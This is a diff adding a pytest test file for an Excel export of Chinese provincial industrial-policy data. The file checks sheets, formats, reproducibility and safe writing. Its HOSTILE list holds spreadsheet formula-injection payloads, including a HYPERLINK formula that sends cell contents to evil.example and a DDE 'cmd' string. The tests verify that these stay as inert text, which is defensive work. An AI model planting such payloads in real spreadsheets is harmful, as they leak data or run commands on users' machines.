@@ -1,0 +1,537 @@
+"""The Excel summary: sheets, headers, formats, values, safety, reproducibility, atomicity."""
+
+from __future__ import annotations
+
+import datetime as dt
+import io
+import os
+import zipfile
+from pathlib import Path
+
+import pytest
+
+openpyxl = pytest.importorskip("openpyxl")
+pd = pytest.importorskip("pandas")
+
+from policylens import excel  # noqa: E402
+from policylens.errors import OutputError  # noqa: E402
+from policylens.schema import TABLES, conform  # noqa: E402
+from policylens.storage import read_table_csv, table_to_csv_bytes  # noqa: E402
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1",
+    "-2",
+    "@SUM(A1)",
+    "\t=1",
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "#N/A",
+    " leading and trailing ",
+]
+DATA_SHEETS = ["Documents", "Targets", "Chains", "Modes", "Mode actors", "Milestones"]
+
+SHA = {
+    "jiangxi_chains_2023_2026": "6215c2725f8e95d9418597464e5ec4430e8f0b54aca3e4d8b87d424fcdeda092",
+    "shanxi_chain_chief_2024": "046b18af0111864bb68c201632aa151da3ca97acb97d2ef90cdae4f2d4b886f8",
+}
+
+
+def _target(n, doc, province, scope_zh, scope, chain, indicator, value, stretch, unit, comp,
+            commit, year, quote, start):  # fmt: skip
+    return {
+        "target_id": f"{doc}:{n}",
+        "doc_id": doc,
+        "province": province,
+        "scope_zh": scope_zh,
+        "scope": scope,
+        "chain": chain,
+        "indicator": indicator,
+        "value": value,
+        "value_stretch": stretch,
+        "unit": unit,
+        "comparator": comp,
+        "commitment": commit,
+        "target_year": year,
+        "period": str(year) if year else None,
+        "deadline": f"{year}-12-31" if year else None,
+        "quote": quote,
+        "char_start": start,
+        "char_end": start + len(quote),
+        "origin": "extracted",
+    }
+
+
+def sample_tables(hostile: bool = True) -> dict[str, pd.DataFrame]:
+    """Small tables modelled on the corpus, typed through the schema; hostile text inside."""
+    jx, sx = "jiangxi_chains_2023_2026", "shanxi_chain_chief_2024"
+    evil = HOSTILE if hostile else ["正常文本"] * len(HOSTILE)
+    documents = pd.DataFrame(
+        [
+            {
+                "doc_id": jx,
+                "province": "Jiangxi",
+                "province_zh": "江西",
+                "title_zh": "江西省制造业重点产业链现代化建设“1269”行动计划（2023-2026年）",
+                "title_en": evil[0],
+                "issuer_zh": "江西省人民政府",
+                "doc_number": None,
+                "issued": None,
+                "status": "final",
+                "horizon_start": 2023,
+                "horizon_end": 2026,
+                "source_url": "https://guangfu.bjx.com.cn/news/20230811/1325131.shtml",
+                "file": f"texts/{jx}.txt",
+                "sha256": SHA[jx],
+                "note": evil[5],
+            },
+            {
+                "doc_id": sx,
+                "province": "Shanxi",
+                "province_zh": "山西",
+                "title_zh": evil[5],
+                "title_en": "Shanxi Key Industrial Chain Chain Chief System Action Plan 2024",
+                "issuer_zh": "山西省重点产业链链长制领导小组办公室",
+                "doc_number": evil[7],
+                "issued": "2024-01-12",
+                "status": "final",
+                "horizon_start": 2024,
+                "horizon_end": 2024,
+                "source_url": None,
+                "file": f"texts/{sx}.txt",
+                "sha256": SHA[sx],
+                "note": None,
+            },
+        ]
+    )
+    targets = pd.DataFrame(
+        [
+            _target(1, jx, "Jiangxi", "新能源产业链", "new energy chain", "new_energy", "revenue",
+                    7e11, None, "CNY", "=", "aspirational", 2026,
+                    "全省新能源产业链营业收入力争达到7000亿元", 100),
+            _target(2, jx, "Jiangxi", "锂电产业链", "lithium battery chain", "lithium_battery",
+                    "revenue", 3.5e11, 4.5e11, "CNY", ">", "firm", 2026,
+                    "锂电产业链营业收入超过3500亿元、力争达到4500亿元", 130),
+            _target(3, jx, "Jiangxi", "光伏产业链", "photovoltaic chain", "photovoltaic",
+                    "revenue", 2e11, 2.5e11, "CNY", "=", "firm", 2026,
+                    "光伏产业链营业收入达到2000亿元、力争达到2500亿元", 160),
+            _target(4, jx, "Jiangxi", "重点产业链", "key chains", None, "chain_count", 16.0,
+                    20.0, "count", ">=", "aspirational", 2026, evil[1], 200),
+            _target(5, jx, "Jiangxi", "链主企业", "chain-leader firms", None, "enterprise_count",
+                    1234.0, None, "count", ">=", "firm", None, evil[2], 220),
+            _target(1, sx, "Shanxi", "光伏产业链", "photovoltaic chain", "photovoltaic",
+                    "revenue", 123456789.5, None, "CNY", ">", "firm", 2024, evil[0], 10),
+            _target(2, sx, "Shanxi", "研发投入", "R&D spending", None, "growth_rate", 12.5,
+                    None, "percent", "~", "firm", 2024, evil[4], 40),
+            _target(3, sx, "Shanxi", "项目", "projects", None, "project_count", 150.0, None,
+                    "count", ">=", "firm", 2024, evil[3], 60),
+        ]
+    )  # fmt: skip
+    chains = pd.DataFrame(
+        [
+            {"doc_id": jx, "province": "Jiangxi", "chain_zh": "有色金属", "label": "non-ferrous",
+             "chain": "nonferrous", "level": "chain", "parent": None, "count": 1,
+             "quote": "有色金属", "char_start": 5, "char_end": 9},
+            {"doc_id": jx, "province": "Jiangxi", "chain_zh": "电子信息", "label": "electronics",
+             "chain": "electronics", "level": "chain", "parent": None, "count": 1,
+             "quote": evil[6], "char_start": 10, "char_end": 14},
+            {"doc_id": sx, "province": "Shanxi", "chain_zh": "重点产业链", "label": "key chains",
+             "chain": None, "level": "chain", "parent": None, "count": 16,
+             "quote": "16条重点产业链", "char_start": 3, "char_end": 11},
+        ]
+    )  # fmt: skip
+    modes = pd.DataFrame(
+        [
+            {"mode_id": f"{sx}:m1", "doc_id": sx, "province": "Shanxi",
+             "mode_zh": "政府+链主+园区", "mode_key": "chain_leader_firm+government+park",
+             "kind": "collaboration", "purpose_zh": "招商", "purpose": evil[8],
+             "mentions": 2, "quote": evil[5], "char_start": 50, "char_end": 60},
+            {"mode_id": f"{sx}:m2", "doc_id": sx, "province": "Shanxi", "mode_zh": "线上+线下",
+             "mode_key": "offline+online", "kind": "other", "purpose_zh": None,
+             "purpose": None, "mentions": 1, "quote": "线上+线下", "char_start": 70,
+             "char_end": 75},
+            {"mode_id": f"{jx}:m1", "doc_id": jx, "province": "Jiangxi",
+             "mode_zh": "链主+基金", "mode_key": "chain_leader_firm+fund",
+             "kind": "collaboration", "purpose_zh": "培育", "purpose": "nurturing",
+             "mentions": 1, "quote": "链主+基金", "char_start": 300, "char_end": 305},
+        ]
+    )  # fmt: skip
+    actors = [
+        (f"{sx}:m1", sx, "Shanxi", "chain_leader_firm+government+park", "government", "政府", 1),
+        (f"{sx}:m1", sx, "Shanxi", "chain_leader_firm+government+park", "chain_leader_firm",
+         "链主", 2),
+        (f"{sx}:m1", sx, "Shanxi", "chain_leader_firm+government+park", "park", "园区", 3),
+        (f"{jx}:m1", jx, "Jiangxi", "chain_leader_firm+fund", "chain_leader_firm", "链主", 1),
+        (f"{jx}:m1", jx, "Jiangxi", "chain_leader_firm+fund", "fund", "基金", 2),
+    ]  # fmt: skip
+    mode_actors = pd.DataFrame(actors, columns=TABLES["mode_actors"].column_names)
+    milestones = pd.DataFrame(
+        [
+            {"milestone_id": f"{sx}:t1", "doc_id": sx, "province": "Shanxi", "period": "2024",
+             "deadline": "2024-12-31", "recurring": None, "action_zh": "年底前完成",
+             "quote": "年底前完成", "char_start": 90, "char_end": 95},
+            {"milestone_id": f"{sx}:t2", "doc_id": sx, "province": "Shanxi",
+             "period": "2024Q1", "deadline": "2024-03-31", "recurring": "quarterly",
+             "action_zh": evil[0], "quote": "2024年一季度", "char_start": 95, "char_end": 103},
+            {"milestone_id": f"{jx}:t1", "doc_id": jx, "province": "Jiangxi", "period": None,
+             "deadline": None, "recurring": None, "action_zh": "适时评估",
+             "quote": "适时评估", "char_start": 400, "char_end": 404},
+        ]
+    )  # fmt: skip
+    frames = {
+        "documents": documents,
+        "targets": targets,
+        "chains": chains,
+        "modes": modes,
+        "mode_actors": mode_actors,
+        "milestones": milestones,
+    }
+    return {name: conform(frame, name) for name, frame in frames.items()}
+
+
+def sample_review() -> pd.DataFrame:
+    row = sample_tables()["targets"].iloc[[0]].drop(columns=["target_id", "origin"])
+    row = row.assign(quote="=2+2 审核", needs_review=True, review_reason="unit unclear")
+    return row.reset_index(drop=True)
+
+
+@pytest.fixture(scope="module")
+def sample_png(tmp_path_factory) -> list[Path]:
+    from PIL import Image
+
+    folder = tmp_path_factory.mktemp("figs")
+    paths = []
+    for name, size in (("b_revenue_zh.png", (1600, 900)), ("a_revenue_en.png", (400, 300))):
+        path = folder / name
+        Image.new("RGB", size, (200, 30, 30)).save(path)
+        paths.append(path)
+    (folder / "a_revenue_en.svg").write_text("<svg/>")
+    return [*paths, folder / "a_revenue_en.svg"]
+
+
+@pytest.fixture(scope="module")
+def sample_book(tmp_path_factory, sample_png) -> Path:
+    path = tmp_path_factory.mktemp("xlsx") / "summary.xlsx"
+    excel.write_workbook(
+        sample_tables(),
+        path,
+        figures=sample_png,
+        review=sample_review(),
+        build_info={"policylens_version": "9.9.9", "documents": SHA},
+    )
+    return path
+
+
+def _csv_round_trip(frame: pd.DataFrame, table: str, tmp_path: Path) -> pd.DataFrame:
+    path = tmp_path / f"{table}.csv"
+    path.write_bytes(table_to_csv_bytes(frame, table))
+    return read_table_csv(path, table)
+
+
+def _read_sheet(path: Path, sheet: str, table: str) -> pd.DataFrame:
+    # keep_default_na=False: text such as "#N/A" or "NA" is text, not a missing value
+    # and text columns are read as text (else pandas turns a period "2024" into a number)
+    text = {c.name: str for c in TABLES[table].columns if c.type in ("string", "category")}
+    raw = pd.read_excel(path, sheet_name=sheet, keep_default_na=False, na_values=[""], dtype=text)
+    return conform(raw, table)
+
+
+def _all_text(ws) -> str:
+    return "\n".join(str(c.value) for row in ws.iter_rows() for c in row if c.value is not None)
+
+
+# --------------------------------------------------------------------------- structure
+
+
+def test_sheets_in_order(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    assert wb.sheetnames == list(excel.SHEETS)
+    assert wb.sheetnames[0] == "README"
+    assert wb.sheetnames == [
+        "README", "Documents", "Targets", "Revenue goals", "Chain counts", "Chains",
+        "Collaboration modes", "Modes", "Mode actors", "Milestones", "Review", "Figures",
+    ]  # fmt: skip
+
+
+def test_data_sheet_headers_are_schema_columns_bold_frozen_filtered(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    for table, sheet in excel.DATA_SHEETS.items():
+        ws = wb[sheet]
+        header = [c.value for c in ws[1]]
+        assert header == TABLES[table].column_names, sheet
+        assert all(c.font.bold for c in ws[1]), sheet
+        assert all(c.data_type == "s" for c in ws[1]), sheet
+        assert ws.freeze_panes == "A2", sheet
+        (tbl,) = ws.tables.values()
+        assert tbl.displayName == table
+        assert tbl.ref.startswith("A1:")
+        assert tbl.autoFilter is not None and tbl.autoFilter.ref == tbl.ref
+
+
+def test_every_table_sheet_has_a_table_and_sensible_widths(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    names = set()
+    for sheet in ("Revenue goals", "Chain counts", "Collaboration modes", "Review"):
+        ws = wb[sheet]
+        (tbl,) = ws.tables.values()
+        names.add(tbl.displayName)
+        assert ws.freeze_panes == "A2"
+    assert names == {"revenue_goals", "chain_counts", "collaboration_modes", "review"}
+    ws = wb["Targets"]
+    widths = {c.value: ws.column_dimensions[c.column_letter].width for c in ws[1]}
+    assert widths["quote"] <= 60 and widths["quote"] >= 30  # CJK counts double
+    assert widths["unit"] < 12
+    quote = ws.cell(2, TABLES["targets"].column_names.index("quote") + 1)
+    assert quote.alignment.wrap_text
+
+
+def test_number_and_date_formats(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    ws = wb["Targets"]
+    col = {c.value: c.column for c in ws[1]}
+    rows = {ws.cell(r, col["target_id"]).value: r for r in range(2, ws.max_row + 1)}
+
+    def cell(target_id, name):
+        return ws.cell(rows[target_id], col[name])
+
+    money = cell("jiangxi_chains_2023_2026:2", "value")
+    assert money.value == 3.5e11 and money.number_format == "#,##0"
+    assert cell("jiangxi_chains_2023_2026:2", "value_stretch").number_format == "#,##0"
+    assert cell("shanxi_chain_chief_2024:1", "value").value == 123456789.5  # not rounded
+    assert cell("shanxi_chain_chief_2024:1", "value").number_format == "#,##0.0"
+    assert cell("shanxi_chain_chief_2024:2", "value").number_format == "0.0"  # percent
+    assert cell("jiangxi_chains_2023_2026:5", "value").number_format == "#,##0"  # count
+    assert cell("jiangxi_chains_2023_2026:1", "target_year").number_format == "0"  # not 2,026
+    deadline = cell("jiangxi_chains_2023_2026:1", "deadline")
+    assert deadline.is_date and deadline.number_format == "yyyy-mm-dd"
+    assert deadline.value == dt.datetime(2026, 12, 31)
+    docs = wb["Documents"]
+    issued = docs.cell(3, TABLES["documents"].column_names.index("issued") + 1)
+    assert issued.is_date and issued.value == dt.datetime(2024, 1, 12)
+    assert docs.cell(2, TABLES["documents"].column_names.index("issued") + 1).value is None
+    chains = wb["Chains"]
+    count = chains.cell(2, TABLES["chains"].column_names.index("count") + 1)
+    assert count.number_format == "#,##0"
+
+
+def test_revenue_goals_pivot(sample_book):
+    frame = pd.read_excel(sample_book, sheet_name="Revenue goals")
+    assert list(frame.columns) == [
+        "chain", "scope", "scope_zh", "value",
+        "Jiangxi 2026 (亿元)", "Shanxi 2024 (亿元)",
+        "Jiangxi 2026 (CNY bn)", "Shanxi 2024 (CNY bn)", "target_id",
+    ]  # fmt: skip
+    by = frame.set_index(["chain", "value"])
+    assert by.loc[("new_energy", "floor"), "Jiangxi 2026 (亿元)"] == 7000
+    assert by.loc[("new_energy", "floor"), "Jiangxi 2026 (CNY bn)"] == 700
+    assert by.loc[("lithium_battery", "floor"), "Jiangxi 2026 (亿元)"] == 3500
+    assert by.loc[("lithium_battery", "stretch"), "Jiangxi 2026 (亿元)"] == 4500
+    assert by.loc[("photovoltaic", "floor"), "Shanxi 2024 (亿元)"] == pytest.approx(1.234567895)
+    assert ("new_energy", "stretch") not in by.index
+    assert frame["chain"].iloc[0] == "new_energy"  # largest goal first
+    ws = openpyxl.load_workbook(sample_book)["Revenue goals"]
+    for c in ws[2][4:8]:
+        if c.value is not None:
+            assert c.number_format == "#,##0.00"
+    assert ws["E2"].font.i  # new energy 7000亿元 is aspirational (力争)
+
+
+def test_chain_counts_and_mode_matrix(sample_book):
+    counts = pd.read_excel(sample_book, sheet_name="Chain counts")
+    named = counts[counts["basis"] == "named"].set_index("doc_id")
+    assert named.loc["jiangxi_chains_2023_2026", "count"] == 2
+    assert named.loc["jiangxi_chains_2023_2026", "what_zh"] == "有色金属、电子信息"
+    assert named.loc["shanxi_chain_chief_2024", "count"] == 16
+    targeted = counts[counts["basis"] == "target"].set_index("target_id")
+    assert targeted.loc["jiangxi_chains_2023_2026:4", "count_stretch"] == 20
+    assert targeted.loc["jiangxi_chains_2023_2026:5", "count"] == 1234
+    assert set(targeted["measure"]) == {"chain_count", "enterprise_count", "project_count"}
+
+    matrix = pd.read_excel(sample_book, sheet_name="Collaboration modes")
+    assert list(matrix.columns[-4:]) == ["chain_leader_firm", "fund", "government", "park"]
+    assert len(matrix) == 2  # 线上+线下 is not collaboration
+    shanxi = matrix.set_index("mode_zh").loc["政府+链主+园区"]
+    assert shanxi["government"] == 1 and shanxi["park"] == 1 and pd.isna(shanxi["fund"])
+
+
+def test_milestones_in_date_order(sample_book):
+    frame = pd.read_excel(sample_book, sheet_name="Milestones")
+    assert list(frame["milestone_id"]) == [
+        "shanxi_chain_chief_2024:t2",
+        "shanxi_chain_chief_2024:t1",
+        "jiangxi_chains_2023_2026:t1",
+    ]
+
+
+# --------------------------------------------------------------------------- values
+
+
+def test_every_data_sheet_round_trips(sample_book, tmp_path):
+    tables = sample_tables()
+    for table, sheet in excel.DATA_SHEETS.items():
+        expected = _csv_round_trip(tables[table], table, tmp_path)
+        got = _read_sheet(sample_book, sheet, table)
+        pd.testing.assert_frame_equal(got, expected, check_exact=True, obj=sheet)
+
+
+def test_hostile_text_stays_text_and_reads_back_exactly(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    seen = set()
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}"
+                if isinstance(cell.value, str) and cell.value in HOSTILE:
+                    seen.add(cell.value)
+                    assert cell.data_type == "s"
+                    if cell.value[0] in "=+-@\t":
+                        assert cell.quotePrefix, f"{ws.title}!{cell.coordinate}"
+    assert seen == set(HOSTILE)
+    targets = pd.read_excel(sample_book, sheet_name="Targets")
+    assert set(HOSTILE[:5]) <= set(targets["quote"])
+    review = pd.read_excel(sample_book, sheet_name="Review")
+    assert review["quote"].tolist() == ["=2+2 审核"]
+    with zipfile.ZipFile(sample_book) as archive:
+        for name in archive.namelist():
+            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
+                xml = archive.read(name).decode("utf-8")
+                assert "<f>" not in xml and "<f " not in xml, name
+            assert "externalLink" not in name
+
+
+def test_error_like_text_is_not_an_error_value(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    ws = wb["Documents"]
+    cell = ws.cell(3, TABLES["documents"].column_names.index("doc_number") + 1)
+    assert cell.value == "#N/A" and cell.data_type == "s"
+
+
+def test_links_are_hyperlink_attributes(sample_book):
+    wb = openpyxl.load_workbook(sample_book)
+    ws = wb["Targets"]
+    col = TABLES["targets"].column_names.index("doc_id") + 1
+    links = {}
+    for r in range(2, ws.max_row + 1):
+        cell = ws.cell(r, col)
+        links[cell.value] = cell.hyperlink.target if cell.hyperlink else None
+        assert cell.data_type == "s"
+    assert links == {
+        "jiangxi_chains_2023_2026": "https://guangfu.bjx.com.cn/news/20230811/1325131.shtml",
+        "shanxi_chain_chief_2024": None,
+    }
+
+
+def test_illegal_control_character_is_a_clear_error(tmp_path):
+    tables = sample_tables(hostile=False)
+    tables["targets"].loc[0, "quote"] = "bad\x0bchar"
+    path = tmp_path / "x.xlsx"
+    with pytest.raises(OutputError, match="U\\+000B"):
+        excel.write_workbook(tables, path)
+    assert not path.exists()
+
+
+# --------------------------------------------------------------------------- README
+
+
+def test_readme_explains_the_workbook(sample_book):
+    ws = openpyxl.load_workbook(sample_book)["README"]
+    text = _all_text(ws)
+    for sheet in excel.SHEETS:
+        assert sheet in text
+    tables = sample_tables()
+    for doc in tables["documents"].itertuples():
+        assert doc.doc_id in text and doc.title_zh in text
+    for word in ("亿元", "yuan", "CNY bn", "percent", "yyyy-mm-dd", "cite", "quote"):
+        assert word in text, word
+    assert "policylens 9.9.9" in text
+    assert excel.input_fingerprint(SHA) in text
+    assert "2024-01-12" in text  # corpus as of: newest issue date
+    assert "no build date" in text  # and why
+    assert "1 extracted candidate target still await" in text
+    for table in excel.DATA_SHEETS:
+        for column in TABLES[table].columns:
+            assert column.description[:40] in text, column.name
+    # a README cell that quotes a document is still text
+    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
+
+
+def test_readme_and_review_when_nothing_is_pending(tmp_path):
+    path = tmp_path / "x.xlsx"
+    excel.write_workbook(sample_tables(hostile=False), path, review=None)
+    wb = openpyxl.load_workbook(path)
+    assert "Nothing is awaiting review" in _all_text(wb["Review"])
+    assert "Nothing is awaiting review" in _all_text(wb["README"])
+    assert not wb["Review"].tables
+    assert "No figures" in _all_text(wb["Figures"])
+
+
+def test_figures_are_embedded(sample_book, sample_png):
+    wb = openpyxl.load_workbook(sample_book)
+    ws = wb["Figures"]
+    assert len(ws._images) == 2  # the SVG is not embedded
+    assert [c.value for c in ws["A"] if c.value] == ["a_revenue_en.png", "b_revenue_zh.png"]
+    with zipfile.ZipFile(sample_book) as archive:
+        media = sorted(n for n in archive.namelist() if n.startswith("xl/media/"))
+        assert len(media) == 2
+        assert {archive.read(n) for n in media} == {p.read_bytes() for p in sample_png[:2]}
+
+
+# --------------------------------------------------------------------------- file
+
+
+def test_rewrite_is_byte_identical(tmp_path, sample_png):
+    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
+    excel.write_workbook(sample_tables(), first, figures=sample_png, review=sample_review())
+    os.utime(sample_png[0], (0, 0))  # file times must not matter
+    excel.write_workbook(sample_tables(), second, figures=sample_png, review=sample_review())
+    assert first.read_bytes() == second.read_bytes()
+    with zipfile.ZipFile(first) as archive:
+        assert {i.date_time for i in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
+        core = archive.read("docProps/core.xml").decode()
+    assert "2024-01-12T00:00:00Z" in core  # corpus as of, not the clock
+
+
+def test_failure_mid_write_leaves_previous_file(tmp_path, monkeypatch):
+    path = tmp_path / "summary.xlsx"
+    excel.write_workbook(sample_tables(hostile=False), path)
+    before = path.read_bytes()
+
+    def boom(*args, **kwargs):
+        raise RuntimeError("disk on fire")
+
+    with monkeypatch.context() as m:
+        m.setattr(excel, "_write_figures", boom)
+        with pytest.raises(RuntimeError):
+            excel.write_workbook(sample_tables(), path)
+    assert path.read_bytes() == before
+
+    def refuse(src, dst):
+        raise PermissionError(13, "Permission denied")
+
+    with monkeypatch.context() as m:
+        m.setattr(excel.os, "replace", refuse)
+        with pytest.raises(OutputError) as info:
+            excel.write_workbook(sample_tables(), path)
+    message = str(info.value)
+    assert str(path) in message and "close it" in message and "intact" in message
+    assert path.read_bytes() == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["summary.xlsx"]  # no temp left
+
+
+@pytest.mark.skipif(os.name == "nt" or os.geteuid() == 0, reason="needs POSIX permissions")
+def test_unwritable_folder_is_an_output_error(tmp_path):
+    folder = tmp_path / "locked"
+    folder.mkdir()
+    folder.chmod(0o500)
+    try:
+        with pytest.raises(OutputError, match="writable"):
+            excel.write_workbook(sample_tables(hostile=False), folder / "x.xlsx")
+    finally:
+        folder.chmod(0o700)
+
+
+def test_workbook_is_a_valid_zip_with_content_types(sample_book):
+    data = sample_book.read_bytes()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert archive.testzip() is None
+        assert "[Content_Types].xml" in archive.namelist()
